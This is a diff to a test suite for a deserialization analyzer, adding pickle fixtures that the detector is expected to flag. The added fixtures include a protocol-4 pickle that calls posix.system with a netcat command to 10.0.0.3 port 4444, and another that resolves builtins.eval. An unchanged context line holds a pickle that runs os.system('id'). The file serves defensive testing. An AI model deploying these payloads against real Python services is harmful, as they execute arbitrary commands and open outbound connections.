@@ -104,6 +104,12 @@ describe("deserialization analyzer", () => {
     const pickle4 = Buffer.from("\x80\x04cos\nsystem\n(S'id'\ntR.", "latin1");
     expect(s(pickle4.toString("base64"))).toBe(0.85);
     expect(s(pickle4.toString("latin1"))).toBe(0.95);
+    // Protocols 4 and 5 as pickle.dumps writes them: a frame, then STACK_GLOBAL over two short strings.
+    const framed = Buffer.from("\x80\x04\x95+\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x10nc 10.0.0.3 4444\x94\x85\x94R\x94.", "latin1");
+    expect(s(framed.toString("latin1"))).toBe(0.95);
+    expect(s(Buffer.from("\x80\x05\x8c\x08builtins\x8c\x04eval\x93", "latin1").toString("latin1"))).toBe(0.95);
+    // A pickle of data only names no callable module.
+    expect(s(Buffer.from("\x80\x04\x95\x10\x00\x00\x00\x00\x00\x00\x00\x8c\x08datetime\x94\x8c\x04date\x94\x93", "latin1").toString("latin1"))).toBe(0);
   });
 
   test(".NET BinaryFormatter streams and XAML that starts a process; Ruby Marshal objects and gadgets; jsonpickle calls", () => {
